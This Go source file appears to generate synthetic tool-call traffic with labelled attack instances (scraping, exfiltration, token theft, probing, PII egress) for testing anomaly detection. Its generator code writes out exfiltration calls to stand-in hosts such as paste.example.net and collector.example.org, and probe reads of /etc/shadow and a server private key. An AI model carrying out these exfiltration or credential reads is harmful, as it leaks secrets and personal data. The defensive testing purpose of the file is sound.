package traffic

import (
	"fmt"
	"math/rand/v2"
	"time"
)

// Tools outside every role, what a prober tries after the ones its role lacks.
var probeExtras = []Action{
	tool("admin", "exec_command", 100), tool("admin", "list_users", 100), tool("data", "drop_table", 100),
	tool("devops", "ssh_exec", 100), tool("hr", "update_salary", 100), tool("payments", "add_payee", 100),
	{Method: "resources/read", Server: "files", Name: "file:///etc/shadow"},
	{Method: "resources/read", Server: "files", Name: "file:///etc/ssl/private/server.key"},
}

// roleServers are the servers whose tools a role may call; probing stays outside them.
var roleServers = map[string][]string{
	"analyst": {"data", "comms"}, "support": {"crm", "comms", "payments"}, "engineer": {"devops", "data", "comms"},
	"sales": {"crm", "comms"}, "hr": {"hr", "comms"}, "finance-ops": {"payments", "data", "comms"},
	"service": {"data", "comms"},
}

// inject places PerKind instances of every kind on distinct principals of the split's half,
// people working in Berlin or New York (at work during the default test phase).
func (d *Dataset) inject() error {
	cfg := d.Config
	var pool []*Principal
	for _, p := range d.Principals {
		z := p.Zone.String()
		if p.InEval() == (cfg.Split == Eval) && !p.Role.Service && (z == "Europe/Berlin" || z == "America/New_York") {
			pool = append(pool, p)
		}
	}
	need := cfg.PerKind * numKinds
	if len(pool) < need {
		return fmt.Errorf("traffic: %d instances need %d eligible principals, have %d (raise --principals)", need, need, len(pool))
	}
	r := rng(cfg.Seed, "victims", cfg.Split)
	r.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
	for k, kind := range Kinds {
		for j := range cfg.PerKind {
			id := len(d.Instances)
			p := pool[k*cfg.PerKind+j]
			ir := rng(cfg.Seed, "instance", cfg.Split, id)
			dur := 30 * time.Minute
			if kind == LowSlow {
				dur = 62 * time.Minute
			}
			slack := cfg.Test - dur - 10*time.Minute
			start := d.TestStart.Add(5*time.Minute + time.Duration(ir.Float64()*float64(slack))).Truncate(time.Second)
			a := &attack{r: ir, p: p, day: int(start.Sub(d.Start).Hours() / 24), seed: cfg.Seed, id: id, kind: kind}
			a.run(start)
			if len(a.calls) == 0 {
				return fmt.Errorf("traffic: instance %d (%s) made no calls", id, kind)
			}
			in := Instance{ID: id, Kind: kind, Principal: p.ID(), End: a.end}
			for _, c := range a.calls {
				if c.Instance != id {
					continue // the owner's own calls beside a stolen token
				}
				if in.Calls == 0 || c.Time.Before(in.Start) {
					in.Start = c.Time
				}
				if c.Time.After(in.End) {
					in.End = c.Time
				}
				in.Calls++
			}
			d.Instances = append(d.Instances, in)
			d.Calls = append(d.Calls, a.calls...)
		}
	}
	return nil
}

// attack generates one instance's calls.
type attack struct {
	r     *rand.Rand
	p     *Principal
	seed  uint64
	day   int
	id    int
	kind  Kind
	calls []Call
	end   time.Time // when the instance ends if later than its last call (rug pull)
}

// own is the victim's usual context: its token of the day, preferred client and office network.
func (a *attack) own() callCtx {
	return callCtx{token: token(a.seed, a.p, a.day), session: fmt.Sprintf("a-%d", a.id), client: a.p.Clients[0],
		ip: fmt.Sprintf("%s.%d", a.p.Office, 10+a.p.Index%240)}
}

func (a *attack) add(t time.Time, act Action, cc callCtx, args func(*Call)) {
	c := a.p.call(a.r, t, act, cc)
	c.Kind, c.Instance = a.kind, a.id
	if args != nil {
		args(&c)
	}
	a.calls = append(a.calls, c)
}

// dataTool is the role's tool to scrape or read slowly.
func (a *attack) dataTool() Action {
	switch a.p.Role.Name {
	case "support", "sales":
		return toolAction("crm/lookup_customer")
	case "hr":
		return toolAction("hr/employee_record")
	}
	return toolAction("data/db_query")
}

func (a *attack) run(t time.Time) {
	r, cc := a.r, a.own()
	switch a.kind {
	case Burst: // 1–2 calls a second for about two minutes, on the principal's usual tools
		for end := t.Add(time.Duration(90+r.IntN(60)) * time.Second); t.Before(end); t = t.Add(time.Duration(400+r.IntN(800)) * time.Millisecond) {
			a.add(t, pick(r, a.p.Mix), cc, nil)
		}
	case Scraping: // ~5 calls a second for 3–5 minutes, paging through one data tool
		act := a.dataTool()
		n := 0
		for end := t.Add(time.Duration(180+r.IntN(120)) * time.Second); t.Before(end); t = t.Add(time.Duration(150+r.IntN(100)) * time.Millisecond) {
			a.add(t, act, cc, nil)
			n++
			if act.Name == "db_query" {
				a.calls[len(a.calls)-1].Arguments = js(map[string]any{"sql": fmt.Sprintf("SELECT * FROM customers ORDER BY id LIMIT 100 OFFSET %d", n*100)})
			}
		}
	case Exfil: // sensitive reads over a few minutes, then egress of what was read
		reads := []Action{toolAction("data/db_query"), toolAction("data/file_read"), resFinance, toolAction("hr/employee_record")}
		for range 12 + r.IntN(9) {
			a.add(t, reads[r.IntN(len(reads))], cc, func(c *Call) { c.RespBytes *= 8 })
			t = t.Add(time.Duration(5+r.IntN(10)) * time.Second)
		}
		for i := range 3 + r.IntN(3) {
			tl := "comms/http_post"
			if i%2 == 1 {
				tl = "comms/send_email"
			}
			a.add(t, toolAction(tl), cc, func(c *Call) {
				body := fmt.Sprintf("export part %d: %d rows of revenue by account", i, 5000+r.IntN(5000))
				if tl == "comms/http_post" {
					c.Arguments = js(map[string]any{"url": "https://paste.example.net/upload", "body": body})
				} else {
					c.Arguments = js(map[string]any{"to": "dropbox.user@protonmail.example", "subject": "files", "body": body})
				}
			})
			t = t.Add(time.Duration(10+r.IntN(20)) * time.Second)
		}
	case Probing: // many distinct tools outside the role, a few seconds apart
		for _, act := range a.probeTargets() {
			a.add(t, act, cc, nil)
			t = t.Add(time.Duration(2+r.IntN(6)) * time.Second)
		}
	case OffRole: // a few high-risk calls outside the role, at a normal pace
		acts := []Action{toolAction("payments/transfer_funds"), toolAction("payments/refund")}
		if a.p.Role.Name == "finance-ops" {
			acts = []Action{toolAction("devops/deploy"), toolAction("devops/get_secret")}
		}
		for range 4 + r.IntN(5) {
			a.add(t, acts[r.IntN(len(acts))], cc, nil)
			t = t.Add(time.Duration(20+r.IntN(40)) * time.Second)
		}
	case Stolen: // the day's token from another client, user agent and network, at a normal pace
		thief := callCtx{token: cc.token, session: fmt.Sprintf("a-%d-x", a.id), ip: fmt.Sprintf("185.220.101.%d", 2+r.IntN(250)),
			client: UsedClient{"mcp-python-client", "1.9.0", "python-httpx/0.27.2"}}
		for end := t.Add(time.Duration(20+r.IntN(10)) * time.Minute); t.Before(end); t = t.Add(max(expDur(r, 30*time.Second), 3*time.Second)) {
			a.add(t, pick(r, a.p.Mix), thief, nil)
		}
		a.concurrent(t.Add(-20*time.Minute), t, cc)
	case LowSlow: // sensitive reads for an hour, the gap shrinking from 60 s to 30 s
		act := a.dataTool()
		for start, end := t, t.Add(60*time.Minute); t.Before(end); {
			a.add(t, act, cc, nil)
			frac := float64(t.Sub(start)) / float64(time.Hour)
			t = t.Add(time.Duration((60-30*frac)*float64(time.Second)) + time.Duration(r.IntN(5000))*time.Millisecond)
		}
	case PIIEgress: // customer records in outgoing mail and posts
		for i := range 3 + r.IntN(4) {
			dump := piiDump(r, 20+r.IntN(21))
			if i%2 == 0 {
				a.add(t, toolAction("comms/send_email"), cc, func(c *Call) {
					c.Arguments = js(map[string]any{"to": "partner@leads.example.org", "subject": "list", "body": dump})
				})
			} else {
				a.add(t, toolAction("comms/http_post"), cc, func(c *Call) {
					c.Arguments = js(map[string]any{"url": "https://collector.example.org/in", "body": dump})
				})
			}
			t = t.Add(time.Duration(20+r.IntN(40)) * time.Second)
		}
	case RugPull: // send_email's definition changes under the session; the principal keeps working
		a.add(t, Action{Method: "tools/list", Server: "comms"}, cc, func(c *Call) { c.ChangedTool = "send_email" })
		a.end = t.Add(5 * time.Minute)
		for t = t.Add(5 * time.Second); t.Before(a.end); t = t.Add(time.Duration(30+r.IntN(60)) * time.Second) {
			a.add(t, pick(r, a.p.Mix), cc, nil)
		}
	}
}

// concurrent adds the victim's own clean calls over [from, to) in its usual session: a stolen
// token is used while its owner works.
func (a *attack) concurrent(from, to time.Time, cc callCtx) {
	r := rng(a.seed, "owner", a.id)
	for t := from; t.Before(to); t = t.Add(max(expDur(r, time.Minute), 5*time.Second)) {
		c := a.p.call(r, t, pick(r, a.p.Mix), cc)
		c.Session = fmt.Sprintf("a-%d-own", a.id)
		a.calls = append(a.calls, c) // unlabelled: the owner's own calls are clean
	}
}

// probeTargets are up to 30 distinct targets outside the victim's role (14 or more for every role).
func (a *attack) probeTargets() []Action {
	own := map[string]bool{}
	for _, s := range roleServers[a.p.Role.Name] {
		own[s] = true
	}
	var out []Action
	for _, t := range allTools {
		if !own[t.Server] && t.Server+"/"+t.Name != "hr/org_chart" { // the org chart is open to everyone
			out = append(out, t)
		}
	}
	for _, t := range probeExtras {
		if t.Method != "tools/call" || !own[t.Server] {
			out = append(out, t)
		}
	}
	a.r.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out[:min(len(out), 20+a.r.IntN(11))]
}
